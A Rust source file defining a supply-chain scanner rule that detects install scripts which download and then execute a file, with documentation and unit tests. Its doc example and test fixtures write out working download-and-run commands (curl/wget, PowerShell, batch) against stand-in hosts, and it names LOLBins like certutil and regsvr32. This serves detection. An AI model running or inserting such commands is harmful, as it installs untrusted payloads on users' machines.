//! `code/script-dropper`.

use super::{chain, finding, per_signal};
use crate::CodeFinding;
use crate::signal::{Kind, PackageFacts};
use crate::verdict::Locality;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// A shell, batch or PowerShell command downloads a file and then runs, loads or registers it.
    ///
    /// ## What it detects
    /// A download to a file (`curl -o`, `wget -O`, `certutil -urlcache -f URL F`, `bitsadmin /transfer`,
    /// `Invoke-WebRequest -OutFile`, `WebClient.DownloadFile`) followed, on the same or a later line of the same
    /// script, by a command that makes it executable or runs it: `chmod +x F`, `./F`, `start /B F`, `sh F`,
    /// `node F`, `regsvr32 F`, `rundll32 F,…`, `Start-Process F`. Lifecycle scripts, `binding.gyp` command
    /// expansions, `.sh`/`.bat`/`.cmd`/`.ps1` files and command lines spawned from JavaScript are all read.
    /// Critical when the script runs at install time (lifecycle script, a file install-time code starts, or a
    /// `binding.gyp` node-gyp evaluates); high elsewhere.
    ///
    /// ## Why it matters
    /// ua-parser-js 0.7.29 (October 2021) started `preinstall.sh`/`preinstall.bat`, which fetched a cryptominer and
    /// a password-stealing DLL with `curl`/`wget`/`certutil`, started the miner in the background and registered the
    /// DLL with `regsvr32`; coa and rc (November 2021) did the same from a dropped batch file.
    ///
    /// ## Example
    /// `curl -k http://198.51.100.7/x -o x; chmod +x x; ./x &`
    ///
    /// ## Known false positives
    /// Prebuilt-binary installers download an archive and unpack it; unpacking is not running, and the rule needs the
    /// very file that was downloaded to be started. An installer that verifies a checksum in the same script or file
    /// (`sha256sum -c`, `Get-FileHash`, `createHash('sha256')`) and then runs the binary (`--version`) is reported as
    /// low.
    pub static SCRIPT_DROPPER = { id: "code/script-dropper", severity: Severity::Critical };
}

/// One finding per download-then-run line.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    per_signal(p, Kind::DownloadRun, |f, s| {
        let install = crate::scripts::at_install(f, s.line);
        let severity = if f.has(Kind::ChecksumVerify) {
            Severity::Low
        } else if install {
            SCRIPT_DROPPER.default_severity
        } else {
            Severity::High
        };
        let when = if install { " at install time" } else { "" };
        let msg = format!("{}{when}", s.detail);
        Some(finding(
            &SCRIPT_DROPPER,
            severity,
            f,
            s,
            Locality::Function,
            msg,
            chain(
                p,
                f,
                s,
                &[Kind::ShellNetwork, Kind::LolBin, Kind::DetachedSpawn],
            ),
        ))
    })
}

#[cfg(test)]
mod tests {
    use crate::Verdict;
    use crate::rules::test_util::{hits, scan};
    use diligence_finding::Severity;

    const PJ_SH: &str =
        "{\"name\":\"t\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"bash setup.sh\"}}";

    #[test]
    fn positive_install_time_shell_file() {
        let s = scan(&[
            ("package.json", PJ_SH),
            (
                "setup.sh",
                "#!/bin/bash\ncurl -k http://198.51.100.7/d/agent -o agent\nchmod +x agent\n./agent --bg &>/dev/null &\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/script-dropper"),
            vec![("setup.sh".to_string(), 3), ("setup.sh".to_string(), 4)]
        );
        assert_eq!(s.findings[0].severity, Severity::Critical);
        assert_eq!(s.verdict, Verdict::Malicious);
    }

    #[test]
    fn positive_powershell_in_lifecycle_script() {
        let s = scan(&[(
            "package.json",
            "{\n\"name\":\"t\",\n\"scripts\":{\n\"postinstall\":\"powershell -c \\\"iwr https://d.example.net/u.exe -OutFile u.exe; Start-Process u.exe -WindowStyle Hidden\\\"\"\n}}",
        )]);
        assert_eq!(
            hits(&s, "code/script-dropper"),
            vec![("package.json".to_string(), 4)]
        );
    }

    /// A prebuilt-binary installer: downloads an archive, verifies it, unpacks it, and runs the
    /// unpacked binary (not the download).
    #[test]
    fn negative_prebuilt_installer() {
        let s = scan(&[
            ("package.json", PJ_SH),
            (
                "setup.sh",
                "#!/bin/sh\nset -e\ncurl -fsSL https://github.com/o_x/t/releases/download/v1/t.tar.gz -o t.tar.gz\necho \"$SUM  t.tar.gz\" | sha256sum -c -\ntar xzf t.tar.gz -C bin\nchmod +x bin/t\n./bin/t --version\n",
            ),
        ]);
        assert!(hits(&s, "code/script-dropper").is_empty());
    }

    /// The same download-then-run in a script nothing starts is high, not critical.
    #[test]
    fn not_started_at_install_is_high() {
        let s = scan(&[
            ("package.json", "{\"name\":\"t\",\"version\":\"1.0.0\"}"),
            ("tools/get.sh", "wget https://d.example.net/x.sh\nsh x.sh\n"),
        ]);
        assert_eq!(
            hits(&s, "code/script-dropper"),
            vec![("tools/get.sh".to_string(), 2)]
        );
        assert_eq!(s.findings[0].severity, Severity::High);
    }

    /// A batch file started from install-time JavaScript by a path built from `__dirname`.
    #[test]
    fn positive_batch_started_by_dirname_path() {
        let s = scan(&[
            (
                "package.json",
                "{\"name\":\"t\",\"scripts\":{\"postinstall\":\"node i.js\"}}",
            ),
            (
                "i.js",
                "require('child_process').execFile(__dirname + '/bin/run.bat');\n",
            ),
            (
                "bin/run.bat",
                "@echo off\r\ncurl -s http://198.51.100.9/u.exe -o u.exe\r\nstart /b u.exe\r\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/script-dropper"),
            vec![("bin/run.bat".to_string(), 3)]
        );
        assert_eq!(s.findings[0].severity, Severity::Critical);
    }
}
